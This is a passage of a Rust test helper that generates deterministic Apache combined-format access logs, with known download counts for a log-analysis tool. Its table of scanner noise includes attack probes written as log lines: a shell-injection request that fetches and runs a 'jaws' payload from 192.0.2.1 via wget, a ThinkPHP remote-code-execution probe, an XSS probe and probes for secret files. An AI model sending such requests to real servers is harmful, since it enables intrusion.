//! Realistic Apache access-log generator (Debian `combined` format) with an
//! independently known answer, for dlcount's integration tests and benchmarks.
//!
//! Invariant: the answer is derived from the generator's own decisions — which
//! file, method, status and byte count it chose for each line — never by
//! parsing the text it wrote. The same [`GenConfig`] always yields the same
//! bytes: randomness comes from a hand-written SplitMix64 stream and only
//! integer arithmetic feeds the output, so no crate upgrade or libm change can
//! alter a log.
//!
//! What the logs contain (mixed mode): a fixed site of ISO images with
//! `.md5`/`.sha256`/`.sha512`/`.asc` siblings; page views; full, interrupted +
//! resumed (206), segmented (equal 206 ranges, some byte-identical lines) and
//! aborted downloads; HEAD requests; bots, command-line downloaders, monitors,
//! mirror probes and scanners (404s, binary request lines, `-`, no protocol,
//! POST/OPTIONS on an ISO, 301/304/400/401/403/405/408/414/416); IPv4 and IPv6
//! clients; lines over 4 and 8 KiB; percent-encoded, raw UTF-8, dot-segment,
//! double-slash, query-string and absolute-form targets that Apache serves as
//! the plain file. Lines are written in order of request *end* while `%t` shows
//! the request *start* in local time (a fixed `+0100`, the CET offset of the
//! default window), so lines are out of order and a download begun before
//! midnight is logged the next day with the old date.
//!
//! Counting rules encoded here (DESIGN.md): a line counts when its method is
//! GET or HEAD, its status 200 or 206 and its `%U`-normalised path ends in
//! `.iso`, ASCII case-insensitively. `/releases/legacy/LINUXVILLAGE-8.0-I386.ISO`
//! is a real file and counts: same extension, but its own key, because it is a
//! different URL. A request for `…-amd64.ISO` when only `…-amd64.iso` exists is
//! a 404 and does not count. One download = one distinct (client IP,
//! normalised path, calendar day of `%t`).
//!
//! Mixed mode always includes a fixed, seed-independent catalogue of edge
//! cases (see [`CATALOGUE_LINES`]) on the first three days of the window, so
//! even tiny logs exercise every feature; `lines: 0` yields the catalogue alone.
#![allow(dead_code)]

use chrono::{Datelike, Days, NaiveDate};
use serde_json::{Map, Value};
use std::cmp::Reverse;
use std::collections::{BTreeMap, BinaryHeap, HashMap};
use std::io::{self, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::sync::OnceLock;

/// Traffic shape.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mode {
    /// Realistic mix: about a quarter of the lines are counted ISO requests.
    Mixed,
    /// Every line is a new counted download: distinct client IP, `GET` of an ISO, 200.
    AllNew,
}

/// What to generate.
#[derive(Debug, Clone)]
pub struct GenConfig {
    /// Approximate number of lines (exact in all-new mode; mixed mode overshoots
    /// by at most one session and never writes fewer than the catalogue).
    pub lines: usize,
    pub seed: u64,
    pub mode: Mode,
    /// First calendar day of `%t`.
    pub start: NaiveDate,
    /// Number of days over which request starts are spread.
    pub days: u32,
}

impl Default for GenConfig {
    fn default() -> Self {
        GenConfig {
            lines: 10_000,
            seed: 1,
            mode: Mode::Mixed,
            start: NaiveDate::from_ymd_opt(2026, 10, 30).expect("valid date"),
            days: 4,
        }
    }
}

/// An in-memory log and its answers.
pub struct Generated {
    /// Each line without its trailing `\n`, in the order Apache writes them.
    pub lines: Vec<Vec<u8>>,
    /// `report --json --detail`: `{path: {"YYYY-MM": {downloads, requests, bytes}}}`.
    pub answer_detail: Value,
    /// `report --json`: `{path: {"YYYY-MM": downloads}}`.
    pub answer_plain: Value,
    /// `report --json --by class`: `{path: {"YYYY-MM": {"browser", "downloader",
    /// "bot", "other"}}}`, from the kind of client the generator chose for
    /// each line (never from the text it wrote).
    pub answer_class: Value,
    /// `report --json --completed` for a root holding every ISO at its
    /// size: per download (client, file, day) the union of the ranges its
    /// GET lines sent (a 200 from 0, a 206 from the first byte its
    /// `Content-Range` names, the bytes it logged), complete when it
    /// covers the file — from the generator's records, never the text.
    pub answer_completed: Value,
}

/// Generates a whole log in memory (meant for tests, up to ~100k lines).
pub fn generate(cfg: &GenConfig) -> Generated {
    let mut lines = Vec::new();
    let (answer_detail, answer_plain, answer_class, answer_completed) =
        run(cfg, &mut |l: &[u8]| {
            lines.push(l.to_vec());
            Ok(())
        })
        .expect("writing to memory cannot fail");
    Generated {
        lines,
        answer_detail,
        answer_plain,
        answer_class,
        answer_completed,
    }
}

/// Streams the log to `out` (one `\n` after every line) and returns
/// `(answer_detail, answer_plain)`. Memory holds only requests still in
/// flight and the answer tallies, never the whole log.
pub fn generate_to(cfg: &GenConfig, out: &mut dyn Write) -> io::Result<(Value, Value)> {
    let mut w = io::BufWriter::with_capacity(1 << 17, out);
    let (detail, plain, _, _) = run(cfg, &mut |l: &[u8]| {
        w.write_all(l)?;
        w.write_all(b"\n")
    })?;
    w.flush()?;
    Ok((detail, plain))
}

/// The `report --json` structure derived from a `--detail` one.
pub fn plain_from_detail(detail: &Value) -> Value {
    let mut files = Map::new();
    if let Some(obj) = detail.as_object() {
        for (path, months) in obj {
            let mut m = Map::new();
            if let Some(months) = months.as_object() {
                for (month, t) in months {
                    m.insert(month.clone(), t["downloads"].clone());
                }
            }
            files.insert(path.clone(), Value::Object(m));
        }
    }
    Value::Object(files)
}

/// The `%z` offset written in every `%t`.
pub const UTC_OFFSET: &str = "+0100";
/// Number of lines the fixed edge-case catalogue writes in mixed mode.
pub const CATALOGUE_LINES: usize = 67;

const DAY_MS: i64 = 86_400_000;
const HOUR_MS: i64 = 3_600_000;
const SITE: &str = "https://downloads.linuxvillage.org/";
const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

// ---------------------------------------------------------------------------
// Randomness: SplitMix64, integer-only helpers (portable, byte-stable output).

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    /// Uniform in `0..n` (multiply-shift; the bias is far below anything a test sees).
    fn below(&mut self, n: u64) -> u64 {
        ((u128::from(self.next()) * u128::from(n)) >> 64) as u64
    }
    /// Uniform in `lo..=hi`.
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }
    fn range_i(&mut self, lo: i64, hi: i64) -> i64 {
        lo + self.below((hi - lo + 1) as u64) as i64
    }
    /// True with probability `pct`/100.
    fn pct(&mut self, pct: u64) -> bool {
        self.below(100) < pct
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }
    fn weighted(&mut self, weights: &[u64]) -> usize {
        let total: u64 = weights.iter().sum();
        let mut r = self.below(total);
        for (i, &w) in weights.iter().enumerate() {
            if r < w {
                return i;
            }
            r -= w;
        }
        weights.len() - 1
    }
}

/// A bijection on u32 (xorshift-multiply rounds), so distinct counters give
/// distinct but scattered-looking addresses.
fn mix32(mut x: u32) -> u32 {
    x ^= x >> 16;
    x = x.wrapping_mul(0x7FEB_352D);
    x ^= x >> 15;
    x = x.wrapping_mul(0x846C_A68B);
    x ^ (x >> 16)
}

// ---------------------------------------------------------------------------
// The site: fixed (seed-independent) so that answers can be checked by hand.

/// One ISO image of the site.
pub struct IsoFile {
    /// Normalised path = report key (UTF-8, as `%U` decodes it).
    pub path: &'static str,
    /// Size in bytes, a multiple of the 2048-byte ISO sector.
    pub size: u64,
    /// The path as a browser sends it (non-ASCII percent-encoded).
    wire: String,
}

const ISO_PATHS: &[&str] = &[
    "/isos/linuxvillage-24.04-amd64.iso",
    "/releases/24.04/linuxvillage-24.04-desktop-amd64.iso",
    "/isos/linuxvillage-24.04-arm64.iso",
    "/releases/24.04/linuxvillage-24.04-server-amd64.iso",
    "/isos/linuxvillage-24.04-netinst-amd64.iso",
    "/releases/community/linuxvillage-24.04-xfce-amd64.iso",
    "/isos/linuxvillage-22.04-amd64.iso",
    "/releases/24.04/linuxvillage-24.04-desktop-arm64.iso",
    "/releases/testing/linuxvillage-26.04-beta-amd64.iso",
    "/releases/community/linuxvillage-24.04-kde-amd64.iso",
    "/releases/22.04/linuxvillage-22.04-desktop-amd64.iso",
    "/releases/24.04/linuxvillage-24.04-server-arm64.iso",
    "/releases/community/linuxvillage-24.04-édition-amd64.iso",
    "/isos/linuxvillage-22.04-arm64.iso",
    "/releases/22.04/linuxvillage-22.04-server-amd64.iso",
    "/releases/24.04/linuxvillage-24.04-live-amd64.iso",
    "/isos/linuxvillage-20.04-amd64.iso",
    "/releases/testing/linuxvillage-26.04-beta-arm64.iso",
    "/releases/22.04/linuxvillage-22.04-desktop-arm64.iso",
    "/releases/20.04/linuxvillage-20.04-desktop-amd64.iso",
    "/releases/testing/linuxvillage-daily-amd64.iso",
    "/isos/linuxvillage-20.04-arm64.iso",
    "/releases/22.04/linuxvillage-22.04-server-arm64.iso",
    "/releases/20.04/linuxvillage-20.04-server-amd64.iso",
    "/isos/linuxvillage-24.04-amd64-dvd.iso",
    "/releases/legacy/linuxvillage-12.04-i386.iso",
    "/releases/legacy/LINUXVILLAGE-8.0-I386.ISO",
];

/// The site's ISO images, most popular first (index order is the Zipf rank).
pub fn iso_files() -> &'static [IsoFile] {
    static FILES: OnceLock<Vec<IsoFile>> = OnceLock::new();
    FILES.get_or_init(|| {
        let mut rng = Rng(0x00D1_5C0F_F1CE);
        ISO_PATHS
            .iter()
            .map(|&path| {
                let size = (1_000_000_000 + rng.below(4_000_000_000)) / 2048 * 2048;
                IsoFile {
                    path,
                    size,
                    wire: percent_encode(path),
                }
            })
            .collect()
    })
}

/// Index of an ISO by path (panics on an unknown path: a bug in the caller).
pub fn iso_index(path: &str) -> usize {
    ISO_PATHS
        .iter()
        .position(|&p| p == path)
        .unwrap_or_else(|| panic!("unknown ISO {path}"))
}

/// Size of an ISO by path.
pub fn iso_size(path: &str) -> u64 {
    iso_files()[iso_index(path)].size
}

/// Encodes everything outside a conservative unreserved set, as browsers do.
fn percent_encode(path: &str) -> String {
    let mut s = String::with_capacity(path.len());
    for &b in path.as_bytes() {
        if b.is_ascii_alphanumeric() || b"-._~/".contains(&b) {
            s.push(b as char);
        } else {
            s.push_str(&format!("%{b:02X}"));
        }
    }
    s
}

/// How Apache logs a raw (unencoded) target: non-ASCII as `\xhh`, lower-case hex.
fn log_escape_raw(path: &str) -> String {
    let mut s = String::with_capacity(path.len());
    for &b in path.as_bytes() {
        if b.is_ascii_graphic() && b != b'"' && b != b'\\' {
            s.push(b as char);
        } else {
            s.push_str(&format!("\\x{b:02x}"));
        }
    }
    s
}

const CHECKSUM_EXTS: [&str; 4] = [".sha256", ".sha512", ".md5", ".asc"];

/// Size of a checksum or signature file beside an ISO (`HASH  name\n`, or an armored signature).
fn checksum_size(file: &IsoFile, ext: &str) -> u64 {
    let name = file.path.rsplit('/').next().unwrap_or(file.path).len() as u64;
    match ext {
        ".md5" => 32 + 2 + name + 1,
        ".sha256" => 64 + 2 + name + 1,
        ".sha512" => 128 + 2 + name + 1,
        _ => 833,
    }
}

/// Static pages: (path as logged, body size).
const PAGES: &[(&str, u64)] = &[
    ("/", 8423),
    ("/index.html", 8423),
    ("/style.css", 3310),
    ("/favicon.ico", 1150),
    ("/logo.svg", 5402),
    ("/robots.txt", 68),
    ("/isos/", 4187),
    ("/releases/", 1630),
    ("/releases/24.04/", 3412),
    ("/releases/22.04/", 3120),
    ("/releases/community/", 1874),
    ("/sitemap.xml", 2210),
];

fn page_size(path: &str) -> u64 {
    PAGES
        .iter()
        .find(|p| p.0 == path)
        .map(|p| p.1)
        .unwrap_or(4096)
}

/// Decimal digits of `n` appended to `out` (no allocation: this runs for every line).
fn push_u64(out: &mut Vec<u8>, mut n: u64) {
    let mut buf = [0u8; 20];
    let mut i = buf.len();
    loop {
        i -= 1;
        buf[i] = b'0' + (n % 10) as u8;
        n /= 10;
        if n == 0 {
            break;
        }
    }
    out.extend_from_slice(&buf[i..]);
}

fn digits(n: u64) -> u64 {
    n.checked_ilog10().map_or(1, |d| u64::from(d) + 1)
}

/// `%O` of a 200 (GET or HEAD) for an ISO: status line and headers before the body.
pub fn hdr_full(size: u64) -> u64 {
    249 + digits(size)
}

/// `%O` headers of a 206 for `first..=last` of `total` (Content-Range grows with the numbers).
pub fn hdr_range(first: u64, last: u64, total: u64) -> u64 {
    271 + digits(last - first + 1) + digits(first) + digits(last) + digits(total)
}

/// `%O` of a small static response of `body` bytes.
fn hdr_page(body: u64) -> u64 {
    226 + digits(body)
}

// ---------------------------------------------------------------------------
// Clients and user agents (all text here is already Apache log-escaped).

#[derive(Clone)]
struct Client {
    /// Identity for deduplication (IPv4 as an IPv4-mapped IPv6 number).
    key: u128,
    /// `%h` as Apache prints it (RFC 5952 for IPv6).
    text: String,
}

impl Client {
    fn fixed(s: &str) -> Client {
        let ip: IpAddr = s.parse().expect("valid fixed address");
        let key = match ip {
            IpAddr::V4(v4) => u128::from(v4.to_ipv6_mapped()),
            IpAddr::V6(v6) => u128::from(v6),
        };
        Client {
            key,
            text: ip.to_string(),
        }
    }
}

const BROWSER_UA: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
];
const CLI_UA: &[&str] = &[
    "Wget/1.21.3",
    "Wget/1.24.5",
    "Wget/1.21.4",
    "curl/8.5.0",
    "curl/7.88.1",
    "curl/8.10.1",
];
const ARIA2_UA: &[&str] = &["aria2/1.37.0", "aria2/1.36.0"];
/// (user agent, address prefix the crawler comes from).
const BOTS: &[(&str, [u8; 3])] = &[
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", [66, 249, 66]),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", [40, 77, 167]),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", [5, 255, 231]),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", [54, 36, 148]),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", [17, 241, 219]),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", [20, 171, 207]),
];
const SCANNER_UA: &[&str] = &[
    "-",
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 (X11; Linux x86_64) \\\"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)\\\"",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
];
const MONITOR_UA: &[&str] = &[
    "Uptime-Kuma/1.23.15",
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "check_http/v2.4.0 (monitoring-plugins 2.4.0)",
];
const MIRROR_UA: &str = "mirror-probe/2.3 (+https://linuxvillage.org/mirrors)";

/// The client classes, as `report --by class` names them, strongest first.
const CLASSES: [&str; 4] = ["browser", "downloader", "other", "bot"];

/// The class of the kind of client the generator picked a User-Agent for
/// (an index into [`CLASSES`]): browsers, command-line tools, crawlers,
/// scanners and monitors are the generator's own categories; each string
/// is looked up in the table it was picked from, never read.
fn ua_class(ua: &str) -> u8 {
    const SCANNER_BOTS: [usize; 3] = [1, 4, 5];
    if BROWSER_UA.contains(&ua) {
        0
    } else if CLI_UA.contains(&ua) || ARIA2_UA.contains(&ua) {
        1
    } else if BOTS.iter().any(|(b, _)| *b == ua)
        || SCANNER_BOTS.iter().any(|&i| SCANNER_UA[i] == ua)
        || MONITOR_UA.contains(&ua)
    {
        3
    } else {
        // "-", python-requests, Go-http-client, the mirror probe.
        2
    }
}
const EXTERNAL_REFERERS: &[&str] = &[
    "-",
    "-",
    "https://www.google.com/",
    "https://duckduckgo.com/",
    "https://linuxvillage.org/download/",
    "https://forum.linuxvillage.org/t/24-04-released/1182",
    "https://www.bing.com/search?q=linuxvillage+iso",
    "https://www.google.com/search?q=t\\xc3\\xa9l\\xc3\\xa9charger+linuxvillage",
];

/// An ~8 KiB referer (ad-tracking redirect, just under Apache's 8190-byte
/// header limit), so some lines exceed 8 KiB.
fn long_referer() -> &'static str {
    static R: OnceLock<String> = OnceLock::new();
    R.get_or_init(|| {
        let mut s = String::from("https://www.google.com/url?sa=t&source=web&url=https%3A%2F%2Fdownloads.linuxvillage.org%2F&ved=");
        let mut rng = Rng(0x7EF0_12AB);
        while s.len() < 8_100 {
            s.push(char::from(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"[rng.below(64) as usize]));
        }
        s
    })
}

/// Scanner noise: (request line as logged, status, `%O`). None of these counts.
const SCANS: &[(&str, u16, u64)] = &[
    ("GET /wp-login.php HTTP/1.1", 404, 437),
    ("GET /.env HTTP/1.1", 404, 437),
    ("GET /.git/config HTTP/1.1", 404, 437),
    ("POST /xmlrpc.php HTTP/1.1", 404, 437),
    ("GET /wp-admin/setup-config.php HTTP/1.1", 404, 437),
    ("GET /cgi-bin/luci/;stok=/locale HTTP/1.1", 404, 437),
    ("GET /index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP HTTP/1.1", 404, 437),
    ("GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws HTTP/1.1", 404, 437),
    ("GET /\\\"><script>alert(1)</script> HTTP/1.1", 404, 437),
    ("\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03\\x8a\\xe1\\x9c", 400, 226),
    ("-", 408, 0),
    ("GET / HTTP/1.0", 200, 8651),
    ("CONNECT www.example.com:443 HTTP/1.1", 405, 455),
    ("GET http://www.example.com/ HTTP/1.1", 404, 437),
    ("PROPFIND / HTTP/1.1", 405, 455),
    ("GET /isos/linuxvillage 24.04.iso HTTP/1.1", 400, 226),
    ("GET /isos/linuxvillage-2099-amd64.iso HTTP/1.1", 404, 437),
    ("GET /isos/linuxvillage-24.04-amd64.ISO HTTP/1.1", 404, 437),
    ("GET /isos%2Flinuxvillage-24.04-amd64.iso HTTP/1.1", 404, 437),
    ("GET /isos/linuxvillage-24.04-amd64.iso", 400, 226),
    ("POST /isos/linuxvillage-24.04-amd64.iso HTTP/1.1", 405, 455),
    ("OPTIONS /isos/linuxvillage-24.04-amd64.iso HTTP/1.1", 200, 201),
    ("GET /isos HTTP/1.1", 301, 483),
    ("GET /latest.iso HTTP/1.1", 301, 512),
    ("GET /.stats/ HTTP/1.1", 403, 426),
];

/// How a request target for an ISO is spelled; every variant is served by
/// Apache as the plain file, so all normalise to the file's path.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Variant {
    Plain,
    PctDash,
    PctDotLower,
    DoubleSlash,
    LeadingSlash,
    DotSeg,
    DotDot,
    Query,
    QueryUtm,
    /// Unencoded non-ASCII bytes, which Apache logs as `\xhh`.
    RawUtf8,
    Absolute,
}

const ODD_VARIANTS: &[Variant] = &[
    Variant::PctDash,
    Variant::PctDotLower,
    Variant::DoubleSlash,
    Variant::LeadingSlash,
    Variant::DotSeg,
    Variant::DotDot,
    Variant::Query,
    Variant::QueryUtm,
    Variant::RawUtf8,
    Variant::Absolute,
];

fn render_target(file: &IsoFile, v: Variant, out: &mut Vec<u8>) {
    let w = file.wire.as_str();
    let slash = w.rfind('/').unwrap_or(0);
    let dot = w.rfind('.').unwrap_or(w.len());
    match v {
        Variant::Plain => out.extend_from_slice(w.as_bytes()),
        // The first `-` of the file name, as in `linuxvillage%2D24.04-amd64.iso`.
        Variant::PctDash => match w[slash..].find('-') {
            Some(i) => {
                let i = slash + i;
                out.extend_from_slice(&w.as_bytes()[..i]);
                out.extend_from_slice(b"%2D");
                out.extend_from_slice(&w.as_bytes()[i + 1..]);
            }
            None => out.extend_from_slice(w.as_bytes()),
        },
        Variant::PctDotLower => {
            out.extend_from_slice(&w.as_bytes()[..dot]);
            out.extend_from_slice(b"%2e");
            out.extend_from_slice(&w.as_bytes()[dot + 1..]);
        }
        Variant::DoubleSlash => {
            out.extend_from_slice(&w.as_bytes()[..slash]);
            out.push(b'/');
            out.extend_from_slice(&w.as_bytes()[slash..]);
        }
        Variant::LeadingSlash => {
            out.push(b'/');
            out.extend_from_slice(w.as_bytes());
        }
        Variant::DotSeg => {
            out.extend_from_slice(&w.as_bytes()[..slash]);
            out.extend_from_slice(b"/.");
            out.extend_from_slice(&w.as_bytes()[slash..]);
        }
        Variant::DotDot => {
            out.extend_from_slice(b"/pub/..");
            out.extend_from_slice(w.as_bytes());
        }
        Variant::Query => {
            out.extend_from_slice(w.as_bytes());
            out.extend_from_slice(b"?mirror=1");
        }
        Variant::QueryUtm => {
            out.extend_from_slice(w.as_bytes());
            out.extend_from_slice(b"?utm_source=forum&utm_medium=link");
        }
        Variant::RawUtf8 => out.extend_from_slice(log_escape_raw(file.path).as_bytes()),
        Variant::Absolute => {
            out.extend_from_slice(SITE.trim_end_matches('/').as_bytes());
            out.extend_from_slice(w.as_bytes());
        }
    }
}

// ---------------------------------------------------------------------------
// Lines and the answer.

enum Req<'a> {
    /// A request for an ISO of the site (the generator knows its normalised path).
    Iso {
        method: &'static str,
        file: usize,
        variant: Variant,
        proto: Option<&'static str>,
    },
    /// Anything else, as logged inside the quotes.
    Text(&'a str),
}

/// One request: `start`/`end` in ms since local midnight of the first day.
struct Hit<'a> {
    start: i64,
    end: i64,
    user: &'a str,
    req: Req<'a>,
    status: u16,
    bytes: u64,
    referer: &'a str,
    ua: &'a str,
    /// The `Content-Range` a 206 sent (first and last byte); `None`: `-`.
    range: Option<(u64, u64)>,
}

#[derive(Default, Clone, Copy)]
struct Tally {
    downloads: u64,
    requests: u64,
    bytes: u64,
}

struct Gen {
    rng: Rng,
    start: NaiveDate,
    /// Lines written but not yet due (ordered by end time, then creation).
    heap: BinaryHeap<Reverse<(i64, u64, Vec<u8>)>>,
    seq: u64,
    lines_made: u64,
    tally: HashMap<(u16, i64), Tally>,
    /// (client, file) already counted per day, with the download's class so
    /// far; days before the current session's start day are folded into
    /// `classes` and dropped, as no later line can carry them.
    seen: BTreeMap<i64, HashMap<(u128, u16), u8>>,
    /// Downloads per (file, day) and class ([`CLASSES`]) of dropped days.
    classes: HashMap<(u16, i64), [u64; 4]>,
    /// The byte ranges each (client, file) download covered per day, as
    /// `seen`; dropped days are folded into `completed`.
    covers: Covers,
    /// Completed downloads per (file, day) of dropped days.
    completed: HashMap<(u16, i64), u64>,
    seen_floor: i64,
    day_prefix: Vec<Vec<u8>>,
    v4_next: u32,
    v6_next: u32,
    /// Recent downloaders, so some clients come back (same day: deduplicated; later: new download).
    recent: Vec<Client>,
    recent_pos: usize,
}

type Sink<'s> = dyn FnMut(&[u8]) -> io::Result<()> + 's;

fn run(cfg: &GenConfig, sink: &mut Sink<'_>) -> io::Result<(Value, Value, Value, Value)> {
    let mut g = Gen {
        rng: Rng(cfg.seed ^ 0x6C6F_6773_6765_6E21),
        start: cfg.start,
        heap: BinaryHeap::new(),
        seq: 0,
        lines_made: 0,
        tally: HashMap::new(),
        seen: BTreeMap::new(),
        classes: HashMap::new(),
        covers: BTreeMap::new(),
        completed: HashMap::new(),
        seen_floor: 0,
        day_prefix: Vec::new(),
        v4_next: (cfg.seed as u32).wrapping_mul(0x9E37_79B9),
        v6_next: (cfg.seed >> 32) as u32,
        recent: Vec::new(),
        recent_pos: 0,
    };
    let days = cfg.days.max(1);
    match cfg.mode {
        Mode::AllNew => g.all_new(cfg.lines as u64, days, sink)?,
        Mode::Mixed => g.mixed(cfg.lines.saturating_sub(CATALOGUE_LINES) as u64, days, sink)?,
    }
    g.flush(i64::MAX, sink)?;
    Ok(g.answers())
}

/// Adds the downloads of `seen`'s days to `classes`, by class.
fn fold_classes(
    classes: &mut HashMap<(u16, i64), [u64; 4]>,
    seen: &BTreeMap<i64, HashMap<(u128, u16), u8>>,
) {
    for (&day, downloads) in seen {
        for (&(_, file), &class) in downloads {
            classes.entry((file, day)).or_default()[usize::from(class)] += 1;
        }
    }
}

/// Per day, the byte ranges each (client, file) download's lines covered.
type Covers = BTreeMap<i64, HashMap<(u128, u16), Vec<(u64, u64)>>>;

/// Adds the downloads of `covers`' days whose ranges cover their file to
/// `completed`: the union of the ranges, clipped to the size, reaches it.
fn fold_completed(completed: &mut HashMap<(u16, i64), u64>, covers: &Covers) {
    for (&day, downloads) in covers {
        for (&(_, file), ranges) in downloads {
            let size = iso_files()[usize::from(file)].size;
            let mut r = ranges.clone();
            r.sort_unstable();
            let (mut covered, mut reach) = (0u64, 0u64);
            for (s, e) in r {
                let (s, e) = (s.max(reach).min(size), e.min(size));
                if e > s {
                    covered += e - s;
                    reach = e;
                }
            }
            let n = completed.entry((file, day)).or_default();
            *n += u64::from(covered >= size);
        }
    }
}

/// Relative traffic per local hour (evening peak, early-morning trough).
const HOUR_WEIGHT: [u64; 24] = [
    30, 22, 16, 12, 10, 10, 14, 22, 34, 44, 52, 58, 62, 64, 64, 66, 70, 76, 84, 92, 96, 90, 70, 46,
];
/// Sub-positions per line, so session starts get ms jitter yet stay ordered.
const SUBPOS: u128 = 1024;

/// Maps position `x` of `total` onto the window, following the daily curve.
fn time_at(x: u128, total: u128, days: u32) -> i64 {
    let day_w: u128 = HOUR_WEIGHT.iter().map(|&w| u128::from(w)).sum::<u128>() * HOUR_MS as u128;
    let t = x * u128::from(days) * day_w / total.max(1);
    let day = (t / day_w) as i64;
    let mut r = t % day_w;
    for (h, &w) in HOUR_WEIGHT.iter().enumerate() {
        let span = u128::from(w) * HOUR_MS as u128;
        if r < span {
            return day * DAY_MS + h as i64 * HOUR_MS + (r / u128::from(w)) as i64;
        }
        r -= span;
    }
    day * DAY_MS + DAY_MS - 1
}

/// (min, max) transfer speed in bytes/s and weight.
const SPEEDS: [(u64, u64, u64); 4] = [
    (150_000, 1_000_000, 10),
    (1_000_000, 10_000_000, 45),
    (10_000_000, 60_000_000, 38),
    (60_000_000, 120_000_000, 7),
];
const SPEED_WEIGHTS: [u64; 4] = [SPEEDS[0].2, SPEEDS[1].2, SPEEDS[2].2, SPEEDS[3].2];

impl Gen {
    // --- plumbing ----------------------------------------------------------

    /// Writes every pending line that ended at or before `t`: no session
    /// starting at `t` or later can produce a line that ends earlier.
    fn flush(&mut self, t: i64, sink: &mut Sink<'_>) -> io::Result<()> {
        while let Some(Reverse((end, _, _))) = self.heap.peek() {
            if *end > t {
                break;
            }
            let Reverse((_, _, line)) = self.heap.pop().expect("peeked");
            sink(&line)?;
        }
        Ok(())
    }

    fn begin_session(&mut self, t: i64) {
        let day = t.div_euclid(DAY_MS);
        if day > self.seen_floor {
            let keep = self.seen.split_off(&day);
            let gone = std::mem::replace(&mut self.seen, keep);
            fold_classes(&mut self.classes, &gone);
            let keep = self.covers.split_off(&day);
            let gone = std::mem::replace(&mut self.covers, keep);
            fold_completed(&mut self.completed, &gone);
            self.seen_floor = day;
        }
    }

    fn push_time(&mut self, ms: i64, line: &mut Vec<u8>) {
        let day = ms.div_euclid(DAY_MS);
        while self.day_prefix.len() as i64 <= day {
            let d = self.start + Days::new(self.day_prefix.len() as u64);
            self.day_prefix.push(
                format!(
                    "[{:02}/{}/{:04}:",
                    d.day(),
                    MONTHS[d.month0() as usize],
                    d.year()
                )
                .into_bytes(),
            );
        }
        line.extend_from_slice(&self.day_prefix[day as usize]);
        let s = ms.rem_euclid(DAY_MS) / 1000;
        let (h, m, sec) = (s / 3600, s / 60 % 60, s % 60);
        for v in [h, m] {
            line.push(b'0' + (v / 10) as u8);
            line.push(b'0' + (v % 10) as u8);
            line.push(b':');
        }
        line.push(b'0' + (sec / 10) as u8);
        line.push(b'0' + (sec % 10) as u8);
        line.push(b' ');
        line.extend_from_slice(UTC_OFFSET.as_bytes());
        line.push(b']');
    }

    fn emit(&mut self, c: &Client, h: Hit<'_>) {
        let mut line = Vec::with_capacity(96 + h.ua.len() + h.referer.len());
        line.extend_from_slice(c.text.as_bytes());
        line.extend_from_slice(b" - ");
        line.extend_from_slice(h.user.as_bytes());
        line.push(b' ');
        self.push_time(h.start, &mut line);
        line.extend_from_slice(b" \"");
        match h.req {
            Req::Iso {
                method,
                file,
                variant,
                proto,
            } => {
                line.extend_from_slice(method.as_bytes());
                line.push(b' ');
                render_target(&iso_files()[file], variant, &mut line);
                if let Some(p) = proto {
                    line.push(b' ');
                    line.extend_from_slice(p.as_bytes());
                }
                // The counting decision, taken from what was chosen, not from the text.
                let counted = matches!(method, "GET" | "HEAD") && matches!(h.status, 200 | 206);
                if counted {
                    let class = ua_class(h.ua);
                    // What the line covers of the file (the completion
                    // rule): a GET 200 from 0, a GET 206 from its range's
                    // first byte, as many bytes as it logged; HEAD nothing.
                    let cover = match (method, h.status, h.range) {
                        ("GET", 200, _) => Some((0, h.bytes)),
